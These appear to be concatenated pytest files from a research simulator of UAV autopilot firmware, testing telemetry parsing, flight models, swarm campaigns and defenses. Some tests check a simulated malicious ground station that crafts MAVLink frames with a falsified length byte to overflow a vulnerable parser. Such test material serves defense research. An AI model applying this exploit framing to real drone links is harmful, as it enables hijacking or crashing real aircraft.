        assert hist.count == 3
        assert hist.sum == 103.0
        assert hist.min == 1.0
        assert hist.max == 100.0
        assert hist.mean == pytest.approx(103.0 / 3)

    def test_percentiles_ordered(self):
        hist = MetricsRegistry().histogram("ms")
        for value in range(1, 101):
            hist.observe(float(value))
        p50, p90, p99 = (hist.percentile(p) for p in (50, 90, 99))
        assert p50 <= p90 <= p99 <= hist.max

    def test_empty_percentile_is_none(self):
        hist = MetricsRegistry().histogram("ms")
        assert hist.percentile(50) is None
        assert hist.mean is None

    def test_overflow_bucket(self):
        hist = MetricsRegistry().histogram("ms", buckets=(1.0, 10.0))
        hist.observe(99.0)  # beyond the last bound: +inf bucket
        assert hist.bucket_counts[-1] == 1
        assert hist.percentile(99) == 99.0  # falls back to observed max

    def test_to_dict_shape(self):
        hist = MetricsRegistry().histogram("ms", buckets=(5.0,))
        hist.observe(1.0)
        data = hist.to_dict()
        assert data["kind"] == "histogram"
        assert data["count"] == 1
        assert data["buckets"] == {"5.0": 1, "+inf": 0}


class TestRegistry:
    def test_labels_distinguish_instruments(self):
        registry = MetricsRegistry()
        a = registry.counter("frames", attack="v1")
        b = registry.counter("frames", attack="v2")
        assert a is not b
        a.inc(3)
        assert registry.value("frames", attack="v1") == 3
        assert registry.value("frames", attack="v2") == 0

    def test_get_or_create_returns_same_instrument(self):
        registry = MetricsRegistry()
        assert registry.counter("x", k=1) is registry.counter("x", k=1)

    def test_kind_conflict_rejected(self):
        registry = MetricsRegistry()
        registry.counter("x")
        with pytest.raises(TelemetryError, match="already registered"):
            registry.gauge("x")

    def test_own_counter_never_shared(self):
        """Two stats views must not fight over one monotonic counter."""
        registry = MetricsRegistry()
        a = registry.own_counter("isp.pages_written", component="isp")
        b = registry.own_counter("isp.pages_written", component="isp")
        assert a is not b
        a.set(5)
        b.set(2)  # would raise if they shared state
        assert b.labels["instance"] == 1

    def test_collector_runs_at_snapshot_time(self):
        registry = MetricsRegistry()
        source = {"retired": 0}
        registry.add_collector(
            lambda reg: reg.gauge("cpu.retired").set(source["retired"])
        )
        source["retired"] = 42
        names = {m["name"]: m["value"] for m in registry.snapshot()}
        assert names["cpu.retired"] == 42

    def test_value_ambiguity_raises(self):
        registry = MetricsRegistry()
        registry.counter("frames", attack="v1")
        registry.counter("frames", attack="v2")
        with pytest.raises(TelemetryError, match="ambiguous"):
            registry.value("frames")
        assert registry.value("missing") is None

    def test_base_labels_merged(self):
        registry = MetricsRegistry(labels={"run": "r1"})
        counter = registry.counter("boots")
        assert counter.labels == {"run": "r1"}
