"""Ground-station edges: link-loss timing, frame resync, exploit framing,
and the MAVLink anomaly detector."""

import pytest

from repro.firmware.hwmap import TELEMETRY_MARKER, TELEMETRY_TRAILER
from repro.mavlink import GLOBAL_POSITION_INT, HEARTBEAT, PARAM_SET, build
from repro.uav import (
    ANOMALY_KINDS,
    GcsAnomalyDetector,
    GroundStation,
    MaliciousGroundStation,
)
from repro.uav.groundstation import POSITION_UNITS_PER_M


def make_frame(gx=0, gy=0, gz=0):
    def split(v):
        v &= 0xFFFF
        return [v & 0xFF, v >> 8]
    return bytes([TELEMETRY_MARKER] + split(gx) + split(gy) + split(gz)
                 + [TELEMETRY_TRAILER])


# -- link-loss alarm edges ----------------------------------------------------

def test_link_lost_fires_exactly_at_threshold():
    gcs = GroundStation()
    gcs.ingest(make_frame())
    for _ in range(GroundStation.SILENCE_ALARM_THRESHOLD - 1):
        gcs.ingest(b"")
        assert not gcs.link_lost  # one poll short of the alarm
    gcs.ingest(b"")
    assert gcs.link_lost


def test_garbage_only_polls_count_as_silence():
    gcs = GroundStation()
    for _ in range(GroundStation.SILENCE_ALARM_THRESHOLD):
        gcs.ingest(b"\x00\x01")  # bytes arrive, but no valid frame
    assert gcs.link_lost
    assert gcs.health.malformed_bytes == (
        2 * GroundStation.SILENCE_ALARM_THRESHOLD
    )


def test_partial_frame_does_not_reset_the_alarm_clock():
    gcs = GroundStation()
    frame = make_frame(9)
    for _ in range(GroundStation.SILENCE_ALARM_THRESHOLD - 1):
        gcs.ingest(b"")
    gcs.ingest(frame[:4])  # still no complete frame: alarm trips
    assert gcs.link_lost
    gcs.ingest(frame[4:])  # completion clears it
    assert not gcs.link_lost


# -- resync on damaged input --------------------------------------------------

def test_resync_skips_broken_frame_and_recovers_the_next():
    gcs = GroundStation()
    broken = bytearray(make_frame(1))
    broken[-1] ^= 0xFF  # trailer corrupted
    frames = gcs.ingest(bytes(broken) + make_frame(2))
    assert [f.gyro_x for f in frames] == [2]
    assert gcs.health.malformed_bytes > 0


def test_resync_handles_marker_bytes_inside_garbage():
    gcs = GroundStation()
    # a stray marker starts a bogus frame whose trailer check fails;
    # the parser must still find the real frame behind it
    noise = bytes([TELEMETRY_MARKER, 1, 2, 3])
    frames = gcs.ingest(noise + make_frame(5))
    assert [f.gyro_x for f in frames] == [5]


def test_byte_at_a_time_delivery_parses_everything():
    gcs = GroundStation()
    stream = make_frame(1) + make_frame(-2)
    frames = []
    for i in range(len(stream)):
        frames.extend(gcs.ingest(stream[i:i + 1]))
    assert [f.gyro_x for f in frames] == [1, -2]
    assert gcs.health.malformed_bytes == 0


# -- exploit framing (golden bytes) -------------------------------------------

def test_exploit_burst_golden_bytes():
    station = MaliciousGroundStation()
    burst = station.exploit_burst(23, b"\xab\xcd\xef")
    # MAGIC, honest length, seq 0, sysid 255, compid 0, msgid, payload;
    # no trailing checksum — the overflow happens before any CRC check
    assert burst == bytes([0xFE, 3, 0, 255, 0, 23]) + b"\xab\xcd\xef"
    assert station.exploit_burst(23, b"\x00")[2] == 1  # seq advanced


def test_exploit_burst_length_byte_lies_past_255():
    station = MaliciousGroundStation()
    payload = bytes(300)
    burst = station.exploit_burst(23, payload)
    assert burst[1] == 255  # capped: the lie a vulnerable parser believes
    assert len(burst) == 6 + 300  # every payload byte still ships


def test_exploit_frame_oversized_carries_crc_and_lying_length():
    station = MaliciousGroundStation()
    frame = station.exploit_frame(PARAM_SET.msg_id, bytes(range(256)) + b"\x11")
    assert frame[0] == 0xFE
    assert frame[1] == 255  # declared length caps at one byte
    assert frame[5] == PARAM_SET.msg_id
    assert len(frame) == 6 + 257 + 2  # header + full payload + checksum


# -- anomaly detector ---------------------------------------------------------

def heartbeat(seq, sysid=255):
    return build(
        HEARTBEAT, seq=seq, sysid=sysid, custom_mode=0, type=6,
        autopilot=3, base_mode=81, system_status=4, mavlink_version=3,
    ).to_bytes()


def position(seq, sysid, x, y):
    return build(
        GLOBAL_POSITION_INT, seq=seq, sysid=sysid, time_boot_ms=0,
        lat=int(round(y * POSITION_UNITS_PER_M)),
        lon=int(round(x * POSITION_UNITS_PER_M)),
        alt=100_000, relative_alt=100_000, vx=0, vy=0, vz=0, hdg=0,
    ).to_bytes()


def test_in_sequence_benign_stream_is_clean():
    detector = GcsAnomalyDetector()
    for seq in range(6):
        detector.begin_tick(seq)
        detector.observe("up", heartbeat(seq))
    assert detector.flagged_kinds() == ()
    assert detector.total_anomalies == 0
    assert detector.snapshot() == {
        "frames": 6, "anomalies": {}, "first_anomaly_tick": None,
    }


def test_sequence_gap_flagged_per_stream():
    detector = GcsAnomalyDetector()
    detector.observe("up", heartbeat(0) + heartbeat(1) + heartbeat(5))
    assert detector.flagged_kinds() == ("seq_gap",)
    assert detector.anomalies[0]["expected"] == 2
    assert detector.anomalies[0]["got"] == 5
    # an independent sysid starts its own counter: no gap
    detector.observe("up", heartbeat(9, sysid=42))
    assert detector.anomaly_counts["seq_gap"] == 1


def test_sequence_wraps_without_a_gap():
    detector = GcsAnomalyDetector()
    detector.observe("up", heartbeat(255) + heartbeat(0))
    assert "seq_gap" not in detector.anomaly_counts


def test_crc_failures_counted():
    detector = GcsAnomalyDetector()
    frame = heartbeat(0)
    detector.observe("up", frame[:-1] + bytes([frame[-1] ^ 0xFF]))
    assert detector.flagged_kinds() == ("crc_fail",)
    assert detector.frames_seen == 0  # the frame never parsed


def test_rate_window_flags_once_then_rolls():
    detector = GcsAnomalyDetector(rate_limit=3)
    detector.begin_tick(0)
    burst = b"".join(heartbeat(seq) for seq in range(6))
    detector.observe("up", burst)
    assert detector.anomaly_counts["rate"] == 1  # once per window
    detector.observe("up", heartbeat(6))
    assert detector.anomaly_counts["rate"] == 1
    # a fresh window can flag again
    detector.begin_tick(GcsAnomalyDetector.RATE_WINDOW_TICKS)
    detector.observe(
        "up", b"".join(heartbeat(seq) for seq in range(7, 12))
    )
    assert detector.anomaly_counts["rate"] == 2


def test_geofence_exit_flagged_once_per_sysid():
    detector = GcsAnomalyDetector()
    detector.begin_tick(0)
    detector.observe("down", position(0, 1, 0.0, 100.0))
    assert "geofence" not in detector.anomaly_counts
    detector.begin_tick(400)
    detector.observe("down", position(1, 1, 0.0, 600.0))  # outside 500 m
    assert detector.anomaly_counts["geofence"] == 1
    detector.begin_tick(800)
    detector.observe("down", position(2, 1, 0.0, 700.0))
    assert detector.anomaly_counts["geofence"] == 1  # still the same exit


def test_teleport_between_claims_flagged():
    detector = GcsAnomalyDetector()
    detector.begin_tick(0)
    detector.observe("down", position(0, 1, 0.0, 10.0))
    detector.begin_tick(1)
    detector.observe("down", position(1, 1, 0.0, 30.0))  # 20 m in one tick
    assert detector.anomaly_counts["geofence"] == 1
    assert detector.anomalies[-1]["reason"] == "teleport"


def test_event_detail_list_is_bounded():
    detector = GcsAnomalyDetector()
    frame = heartbeat(0)
    bad = frame[:-1] + bytes([frame[-1] ^ 0xFF])
    for _ in range(GcsAnomalyDetector.EVENT_LIMIT + 10):
        detector.observe("up", bad)
    assert len(detector.anomalies) == GcsAnomalyDetector.EVENT_LIMIT
    counted = detector.anomaly_counts["crc_fail"]
    assert counted == GcsAnomalyDetector.EVENT_LIMIT + 10  # counters unbounded


def test_flagged_kinds_keep_canonical_order():
    detector = GcsAnomalyDetector()
    detector.begin_tick(0)
    detector.observe("down", position(0, 1, 0.0, 600.0))  # geofence
    detector.observe("up", heartbeat(0) + heartbeat(4))   # seq_gap
    assert detector.flagged_kinds() == ("seq_gap", "geofence")
    assert set(detector.flagged_kinds()) <= set(ANOMALY_KINDS)
