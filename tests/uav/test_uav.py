"""UAV harness: autopilot lifecycle, sensors, flight model, ground station,
mission bookkeeping."""

import math

import pytest

from repro.avr import AvrCpu
from repro.firmware.hwmap import TELEMETRY_MARKER, TELEMETRY_TRAILER
from repro.uav import (
    Autopilot,
    AutopilotStatus,
    FlightModel,
    GroundStation,
    MaliciousGroundStation,
    Mission,
    SensorState,
    SensorSuite,
    SERVO_NEUTRAL,
    Waypoint,
    track_deviation,
)


# -- sensors ----------------------------------------------------------------

def test_sensor_registers_reflect_state():
    cpu = AvrCpu()
    suite = SensorSuite(cpu)
    suite.set_gyro(0x1234, -2, 0)
    from repro.firmware.hwmap import GYRO_X_REG, GYRO_Y_REG
    assert cpu.data.read(GYRO_X_REG) == 0x34
    assert cpu.data.read(GYRO_X_REG + 1) == 0x12
    # negative values are two's complement
    assert cpu.data.read(GYRO_Y_REG) == 0xFE
    assert cpu.data.read(GYRO_Y_REG + 1) == 0xFF


def test_sensor_clamping():
    cpu = AvrCpu()
    suite = SensorSuite(cpu)
    suite.set_gyro(10**9, 0, 0)
    from repro.firmware.hwmap import GYRO_X_REG
    value = cpu.data.read(GYRO_X_REG) | (cpu.data.read(GYRO_X_REG + 1) << 8)
    assert value == 0x7FFF  # clamped to int16 max


# -- flight model --------------------------------------------------------------

def test_neutral_servo_flies_straight():
    cpu = AvrCpu()
    model = FlightModel(SensorSuite(cpu))
    for _ in range(50):
        model.step(SERVO_NEUTRAL)
    assert abs(model.state.x) < 1e-6
    assert model.state.y > 0  # moving north


def test_deflected_servo_turns():
    cpu = AvrCpu()
    model = FlightModel(SensorSuite(cpu))
    for _ in range(200):
        model.step(SERVO_NEUTRAL + 40)
    assert abs(model.state.heading_deg) > 1.0
    assert abs(model.state.x) > 0.1


def test_gyro_feedback_loop():
    cpu = AvrCpu()
    suite = SensorSuite(cpu)
    model = FlightModel(suite)
    model.step(SERVO_NEUTRAL + 10)
    assert suite.state.gyro["x"] != 0.0


def test_roll_is_limited():
    cpu = AvrCpu()
    model = FlightModel(SensorSuite(cpu))
    for _ in range(1000):
        model.step(0xFF)
    assert model.state.roll_deg <= 60.0


# -- autopilot harness ----------------------------------------------------------

def test_autopilot_runs(testapp):
    autopilot = Autopilot(testapp)
    status = autopilot.run_ticks(10)
    assert status is AutopilotStatus.RUNNING
    assert autopilot.read_variable("loop_counter") > 0


def test_autopilot_crash_freezes_servo(testapp):
    autopilot = Autopilot(testapp)
    autopilot.run_ticks(5)
    # force a crash: jump the core into erased flash
    autopilot.cpu.pc = (testapp.size + 64) // 2
    autopilot.tick()
    assert autopilot.status is AutopilotStatus.CRASHED
    assert autopilot.crash is not None
    servo = autopilot.servo_command
    autopilot.tick()
    assert autopilot.servo_command == servo  # frozen


def test_autopilot_reflash_recovers(testapp):
    autopilot = Autopilot(testapp)
    autopilot.cpu.pc = (testapp.size + 64) // 2
    autopilot.tick()
    assert autopilot.status is AutopilotStatus.CRASHED
    autopilot.reflash(testapp)
    assert autopilot.status is AutopilotStatus.RUNNING
    autopilot.run_ticks(3)
    assert autopilot.status is AutopilotStatus.RUNNING


def test_autopilot_variable_roundtrip(testapp):
    autopilot = Autopilot(testapp)
    autopilot.write_variable("nav_mode", 2)
    assert autopilot.read_variable("nav_mode") == 2
    with pytest.raises(ValueError):
        autopilot.variable_address("main")  # not an SRAM variable


def test_autopilot_flight_advances(testapp):
    autopilot = Autopilot(testapp)
    autopilot.run_ticks(20)
    assert len(autopilot.flight.track) == 21


# -- ground station ---------------------------------------------------------------

def make_frame(gx=0, gy=0, gz=0):
    def split(v):
        v &= 0xFFFF
        return [v & 0xFF, v >> 8]
    return bytes([TELEMETRY_MARKER] + split(gx) + split(gy) + split(gz)
                 + [TELEMETRY_TRAILER])


def test_gcs_parses_frames():
    gcs = GroundStation()
    frames = gcs.ingest(make_frame(5, -3, 100))
    assert len(frames) == 1
    assert frames[0].gyro_x == 5
    assert frames[0].gyro_y == -3
    assert frames[0].gyro_z == 100


def test_gcs_resyncs_after_noise():
    gcs = GroundStation()
    frames = gcs.ingest(b"\x00\x01\x02" + make_frame(1))
    assert len(frames) == 1
    assert gcs.health.malformed_bytes == 3


def test_gcs_split_delivery():
    gcs = GroundStation()
    frame = make_frame(7)
    assert gcs.ingest(frame[:3]) == []
    assert len(gcs.ingest(frame[3:])) == 1


def test_gcs_link_lost_alarm():
    gcs = GroundStation()
    gcs.ingest(make_frame())
    assert not gcs.link_lost
    for _ in range(GroundStation.SILENCE_ALARM_THRESHOLD):
        gcs.ingest(b"")
    assert gcs.link_lost


def test_gcs_recovers_after_frames_return():
    gcs = GroundStation()
    for _ in range(GroundStation.SILENCE_ALARM_THRESHOLD):
        gcs.ingest(b"")
    assert gcs.link_lost
    gcs.ingest(make_frame())
    assert not gcs.link_lost


def test_gcs_command_serialization():
    from repro.mavlink import HEARTBEAT, Packet
    gcs = GroundStation()
    frame = gcs.command(
        HEARTBEAT, custom_mode=0, type=6, autopilot=0, base_mode=0,
        system_status=4, mavlink_version=3,
    )
    packet = Packet.from_bytes(frame)
    assert packet.msgid == HEARTBEAT.msg_id


def test_malicious_gcs_exploit_burst():
    station = MaliciousGroundStation()
    burst = station.exploit_burst(23, b"\xee" * 300)
    assert burst[0] == 0xFE
    assert burst[1] == 255  # capped length byte (the lie)
    assert len(burst) == 306


def test_gcs_sequence_numbers_wrap():
    gcs = GroundStation()
    for _ in range(256):
        gcs.next_seq()
    assert gcs.next_seq() == 0


# -- mission --------------------------------------------------------------------

def test_mission_progress():
    mission = Mission([Waypoint(0, 100), Waypoint(0, 200)])
    assert not mission.complete
    assert not mission.update(0, 10)
    assert mission.update(0, 90)  # within 25 m radius
    assert mission.current == Waypoint(0, 200)
    assert mission.update(5, 195)
    assert mission.complete
    assert mission.current is None


def test_track_deviation_metrics():
    reference = [(0.0, float(i)) for i in range(10)]
    actual = [(3.0, float(i)) for i in range(10)]
    stats = track_deviation(reference, actual)
    assert math.isclose(stats["mean"], 3.0)
    assert math.isclose(stats["max"], 3.0)
    assert stats["points"] == 10
    assert track_deviation([], [])["points"] == 0
