"""Swarm scenarios: spec validation, derived boards, campaign determinism."""

import json

import pytest

from repro.sim import (
    CampaignRunner,
    SwarmSpec,
    derive_seed,
    run_swarm_scenario,
)
from repro.sim.swarm import SWARM_BOARD_STREAM


def swarm_specs_for(n, attack="flood", base_seed=77, **overrides):
    return [
        SwarmSpec(
            boards=3,
            protected=False,
            seed=derive_seed(base_seed, index, "swarm"),
            attack=attack,
            attack_seed=derive_seed(base_seed, index, "swarm-attack"),
            observe_ticks=40,
            label=f"s{index}",
            **overrides,
        )
        for index in range(n)
    ]


# -- spec validation ----------------------------------------------------------

def test_swarm_spec_rejects_bad_fleet_shapes():
    with pytest.raises(ValueError, match="at least one board"):
        SwarmSpec(boards=0)
    with pytest.raises(ValueError, match="out of range"):
        SwarmSpec(boards=2, attack_board=2)
    with pytest.raises(ValueError, match="defense backend"):
        SwarmSpec(defense="aslr")


def test_swarm_spec_accepts_protocol_kinds_only():
    SwarmSpec(attack="replay")  # fine
    SwarmSpec(attack=None)      # benign fleet, fine
    with pytest.raises(ValueError, match="protocol-layer"):
        SwarmSpec(attack="v2")
    with pytest.raises(ValueError, match="unknown attack kind"):
        SwarmSpec(attack="nonesuch")


def test_board_spec_derivation_is_clean_and_seed_separated():
    spec = SwarmSpec(boards=3, seed=5, attack="flood", label="fleet")
    subs = [spec.board_spec(i) for i in range(3)]
    assert [s.seed for s in subs] == [
        derive_seed(5, i, SWARM_BOARD_STREAM) for i in range(3)
    ]
    assert len({s.seed for s in subs}) == 3
    # the protocol attacker never touches firmware: boards fly clean,
    # which is what lets deploy artifacts and warm forks be shared
    assert all(s.attack is None for s in subs)
    assert [s.label for s in subs] == ["fleet/b0", "fleet/b1", "fleet/b2"]


def test_swarm_record_omits_test_only_fields():
    record = SwarmSpec(worker_fault_marker="/tmp/m").to_record()
    assert "worker_fault_marker" not in record
    assert record["boards"] == 3


# -- single runs --------------------------------------------------------------

def test_attacked_swarm_scores_the_detector():
    result = run_swarm_scenario(swarm_specs_for(1)[0])
    assert result.effect and result.detected
    assert result.swarm["boards"] == 3
    assert result.swarm["statuses"] == ["running"] * 3
    assert result.swarm["benign_frames"] > 0
    assert result.detector["kind"] == "flood"
    record = result.to_record()
    assert record["detector"] == result.detector
    assert record["swarm"] == result.swarm


def test_benign_swarm_raises_no_alarms():
    result = run_swarm_scenario(swarm_specs_for(1, attack=None)[0])
    assert not result.effect and not result.detected
    assert result.detector["kind"] is None
    assert result.detector["flagged"] == []
    assert result.delivered_bytes == 0


# -- campaign determinism -----------------------------------------------------

def test_swarm_campaign_serial_vs_parallel_bit_identical(tmp_path):
    specs = swarm_specs_for(4)
    serial_path = tmp_path / "serial.jsonl"
    parallel_path = tmp_path / "parallel.jsonl"
    serial = CampaignRunner(jobs=1, jsonl_path=serial_path).run(specs)
    parallel = CampaignRunner(jobs=4, jsonl_path=parallel_path).run(specs)
    assert serial.aggregates == parallel.aggregates
    assert serial.records() == parallel.records()
    assert serial_path.read_bytes() == parallel_path.read_bytes()
    assert serial.aggregates["errors"] == 0
    assert serial.aggregates["detections"] == 4


def test_swarm_campaign_checkpoint_resume_round_trips(tmp_path):
    specs = swarm_specs_for(3)
    checkpoint = tmp_path / "checkpoints"
    first = CampaignRunner(jobs=1, checkpoint_dir=checkpoint).run(specs)
    resumed = CampaignRunner(
        jobs=1, resume=True, checkpoint_dir=checkpoint,
    ).run(specs)
    assert resumed.runner["resumed"] == 3
    assert first.records() == resumed.records()
    # resurrected results keep the swarm extensions
    assert all(r.detector is not None for r in resumed.results)
    assert all(r.swarm["boards"] == 3 for r in resumed.results)


def test_swarm_jsonl_records_parse_with_extensions(tmp_path):
    path = tmp_path / "swarm.jsonl"
    CampaignRunner(jobs=1, jsonl_path=path).run(swarm_specs_for(1))
    line = json.loads(path.read_text().splitlines()[0])
    assert line["spec"]["boards"] == 3
    assert line["detector"]["detected"] is True
    assert line["swarm"]["statuses"] == ["running"] * 3
