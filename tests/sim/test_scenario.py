"""ScenarioSpec / Board / run_scenario unit behaviour."""

import pytest

from repro.sim import (
    ATTACK_VARIANTS,
    Board,
    ScenarioSpec,
    derive_seed,
    load_spec_image,
    run_scenario,
)


# -- seeds -------------------------------------------------------------------

def test_derive_seed_is_stable_and_stream_separated():
    assert derive_seed(42, 3) == derive_seed(42, 3)
    assert derive_seed(42, 3, "board") != derive_seed(42, 3, "attack")
    assert derive_seed(42, 3) != derive_seed(42, 4)
    assert 0 <= derive_seed(0, 0) < 2**31


def test_derive_seed_survives_process_boundary():
    """The derivation must not depend on per-interpreter hash state."""
    import subprocess
    import sys

    out = subprocess.run(
        [sys.executable, "-c",
         "from repro.sim import derive_seed; print(derive_seed(42, 3, 'x'))"],
        capture_output=True, text=True, check=True,
        env={"PYTHONPATH": "src", "PYTHONHASHSEED": "random"},
    )
    assert int(out.stdout) == derive_seed(42, 3, "x")


# -- spec validation ---------------------------------------------------------

def test_spec_rejects_unknown_attack_and_fault():
    with pytest.raises(ValueError):
        ScenarioSpec(attack="v9")
    with pytest.raises(ValueError):
        ScenarioSpec(fault="gremlins")


def test_spec_rejects_protected_oracle():
    with pytest.raises(ValueError):
        ScenarioSpec(attack="oracle", protected=True)
    ScenarioSpec(attack="oracle", protected=False)  # fine


def test_spec_validates_defense_backend():
    with pytest.raises(ValueError):
        ScenarioSpec(defense="aslr")
    for name in ("mavr", "daedalus", "ctomp"):
        assert ScenarioSpec(defense=name).defense == name


def test_board_wires_selected_defense(testapp):
    spec = ScenarioSpec(
        image_hex=testapp.to_preprocessed_hex(), defense="ctomp",
        fault="wild_jump", observe_ticks=30,
    )
    result = run_scenario(spec)
    assert result.detected
    assert result.still_flying
    # ctomp recovery never reflashes: one programming pass (the install)
    assert result.randomizations == 1


def test_spec_record_omits_bulk_and_test_fields(testapp):
    spec = ScenarioSpec(
        image_hex=testapp.to_preprocessed_hex(),
        worker_fault_marker="/tmp/marker",
        attack="v2",
    )
    record = spec.to_record()
    assert "image_hex" not in record
    assert "worker_fault_marker" not in record
    assert record["attack"] == "v2"
    assert record["values"] == "400000"  # bytes serialize as hex


def test_spec_image_roundtrip_preserves_symbols(testapp):
    spec = ScenarioSpec(image_hex=testapp.to_preprocessed_hex())
    image = load_spec_image(spec)
    assert [(s.name, s.address) for s in image.symbols] == [
        (s.name, s.address) for s in testapp.symbols
    ]
    assert load_spec_image(spec) is image  # per-process cache


# -- board lifecycle ---------------------------------------------------------

def test_board_protected_vs_bare():
    protected = Board(ScenarioSpec(app="testapp", seed=5))
    assert protected.system is not None
    assert protected.boot() > 0  # randomize+reflash costs startup time
    bare = Board(ScenarioSpec(app="testapp", protected=False))
    assert bare.system is None
    assert bare.boot() == 0.0
    assert bare.report() is None


def test_board_policy_and_watchdog_overrides():
    board = Board(ScenarioSpec(
        app="testapp", seed=5,
        randomize_every_boots=10,
        watchdog_period_cycles=50_000,
        watchdog_missed_periods=2,
    ))
    assert board.system.master.policy.randomize_every_boots == 10
    assert board.system.master.watchdog_config.expected_period_cycles == 50_000
    assert board.system.master.watchdog_config.missed_periods_threshold == 2


# -- scenarios ---------------------------------------------------------------

def test_clean_scenario_flies(testapp):
    result = run_scenario(ScenarioSpec(app="testapp", seed=3, observe_ticks=20))
    assert result.outcome == "clean"
    assert result.still_flying
    assert not result.effect and not result.detected
    assert result.boots == 1
    assert result.error is None


def test_v2_vs_unprotected_is_stealthy():
    result = run_scenario(ScenarioSpec(
        app="testapp", protected=False, attack="v2", observe_ticks=30,
    ))
    assert result.outcome == "stealthy"
    assert result.succeeded and result.stealthy and result.effect
    assert result.delivered_bytes > 0


def test_guess_vs_protected_is_deflected():
    result = run_scenario(ScenarioSpec(
        app="testapp", seed=11, attack="guess", attack_seed=7,
    ))
    assert result.outcome == "deflected"
    assert result.detected and not result.effect
    assert result.randomizations >= 2  # boot + post-detection recovery


def test_wild_jump_fault_is_detected_and_recovered(testapp):
    result = run_scenario(ScenarioSpec(
        app="testapp", seed=9, fault="wild_jump",
        warmup_ticks=10, observe_ticks=150, watch_every=5,
    ))
    assert result.attacks_detected >= 1
    assert result.boots >= 2  # master rebooted the application processor
    assert result.still_flying


def test_result_record_is_deterministic_and_snapshot_free(testapp):
    spec = ScenarioSpec(app="testapp", seed=4, attack="guess", telemetry=True)
    first = run_scenario(spec, index=2)
    second = run_scenario(spec, index=2)
    assert first.snapshot is not None and first.events
    record = first.to_record()
    assert record == second.to_record()
    assert "snapshot" not in record and "events" not in record
    assert "startup_overhead_ms" not in record  # wall-clock adjacent
    assert record["index"] == 2
