"""Campaign job server: request in, byte-identical JSONL streamed back."""

import asyncio
import json

import pytest

from repro.sim import CampaignRunner
from repro.sim.serve import CampaignServer, specs_from_request


async def _request(port: int, payload: dict):
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write((json.dumps(payload) + "\n").encode("utf-8"))
    await writer.drain()
    lines = []
    while True:
        line = await reader.readline()
        if not line:
            break
        lines.append(line.decode("utf-8"))
    writer.close()
    await writer.wait_closed()
    return lines


def test_specs_from_request_mirrors_cli_derivation():
    specs = specs_from_request({"attack": "guess", "count": 3, "seed": 9})
    assert [spec.label for spec in specs] == ["guess-0", "guess-1", "guess-2"]
    assert len({spec.seed for spec in specs}) == 3
    assert len({spec.attack_seed for spec in specs}) == 3


def test_specs_from_request_rejects_bad_input():
    with pytest.raises(ValueError):
        specs_from_request({"attack": "nonesuch"})
    with pytest.raises(ValueError):
        specs_from_request({"count": 0})


def test_served_campaign_streams_file_sink_bytes(tmp_path):
    request = {"app": "testapp", "attack": "guess", "count": 3, "seed": 5,
               "jobs": 2}

    async def scenario():
        server = CampaignServer(port=0, cache_dir=tmp_path / "cache")
        await server.start()
        try:
            return await _request(server.port, request)
        finally:
            server._server.close()
            await server._server.wait_closed()

    lines = asyncio.run(scenario())
    direct = CampaignRunner(jobs=1, jsonl_path=tmp_path / "direct.jsonl")
    direct.run(specs_from_request(request))
    expected = (tmp_path / "direct.jsonl").read_text().splitlines(keepends=True)
    assert lines == expected
    assert "campaign.aggregates" in lines[-2]
    assert "campaign.phases" in lines[-1]


def test_served_error_is_one_json_line(tmp_path):
    async def scenario():
        server = CampaignServer(port=0)
        await server.start()
        try:
            return await _request(server.port, {"attack": "nonesuch"})
        finally:
            server._server.close()
            await server._server.wait_closed()

    lines = asyncio.run(scenario())
    assert len(lines) == 1
    assert "campaign.error" in json.loads(lines[0])
