"""CampaignRunner: determinism contract, pool failure semantics, sinks.

The determinism suite is the acceptance test for the whole scenario
layer: the same spec list must yield identical aggregates and identical
JSONL bytes whether it runs inline, across 4 workers, or twice in a row.
"""

import json

import pytest

from repro.analysis.attack_sim import campaign_specs, guessing_campaign
from repro.sim import (
    PHASE_ORDER,
    CampaignRunner,
    PoolTaskError,
    ScenarioSpec,
    aggregate_phases,
    aggregate_results,
    derive_seed,
    deterministic_phases,
    map_indexed,
    run_scenario,
)


def specs_for(n, base_seed=99, telemetry=False, **overrides):
    return [
        ScenarioSpec(
            app="testapp",
            seed=derive_seed(base_seed, index, "board"),
            attack="guess",
            attack_seed=derive_seed(base_seed, index, "attack"),
            telemetry=telemetry,
            label=f"g{index}",
            **overrides,
        )
        for index in range(n)
    ]


# -- determinism contract ----------------------------------------------------

def test_serial_vs_parallel_bit_identical(tmp_path):
    specs = specs_for(4, telemetry=True)
    serial_path = tmp_path / "serial.jsonl"
    parallel_path = tmp_path / "parallel.jsonl"
    serial = CampaignRunner(jobs=1, jsonl_path=serial_path).run(specs)
    parallel = CampaignRunner(jobs=4, jsonl_path=parallel_path).run(specs)
    assert serial.aggregates == parallel.aggregates
    assert serial.records() == parallel.records()
    assert serial_path.read_bytes() == parallel_path.read_bytes()
    # runner diagnostics are the non-deterministic part, by design
    assert serial.runner["jobs"] == 1 and parallel.runner["jobs"] == 4


def test_repeated_parallel_runs_identical(tmp_path):
    specs = specs_for(3)
    first_path = tmp_path / "first.jsonl"
    second_path = tmp_path / "second.jsonl"
    first = CampaignRunner(jobs=4, jsonl_path=first_path).run(specs)
    second = CampaignRunner(jobs=4, jsonl_path=second_path).run(specs)
    assert first.aggregates == second.aggregates
    assert first_path.read_bytes() == second_path.read_bytes()


def test_guessing_campaign_parallelism_bit_identical(testapp):
    serial = guessing_campaign(testapp, attempts=3, seed=41)
    parallel = guessing_campaign(testapp, attempts=3, seed=41, parallelism=4)
    assert (serial.attempts, serial.effects, serial.detections,
            serial.randomizations_consumed, serial.still_flying,
            serial.per_attempt_detected) == (
        parallel.attempts, parallel.effects, parallel.detections,
        parallel.randomizations_consumed, parallel.still_flying,
        parallel.per_attempt_detected)


def test_campaign_specs_are_stable(testapp):
    assert campaign_specs(testapp, 3, seed=8) == campaign_specs(testapp, 3, seed=8)
    assert campaign_specs(testapp, 3, seed=8) != campaign_specs(testapp, 3, seed=9)


# -- aggregates and sinks ----------------------------------------------------

def test_jsonl_sink_layout(tmp_path):
    specs = specs_for(2)
    path = tmp_path / "out.jsonl"
    report = CampaignRunner(jobs=1, jsonl_path=path).run(specs)
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert len(lines) == 4  # one per spec + trailing aggregates + phases
    assert [line["index"] for line in lines[:-2]] == [0, 1]
    assert lines[-2]["campaign.aggregates"] == report.aggregates
    assert lines[-1]["campaign.phases"] == deterministic_phases(report.phases)
    for line in lines[:-2]:
        assert line["spec"]["app"] == "testapp"
        assert "wall_s" not in line


def test_aggregates_shape():
    results = [run_scenario(spec, index=i) for i, spec in enumerate(specs_for(2))]
    aggregates = aggregate_results(results)
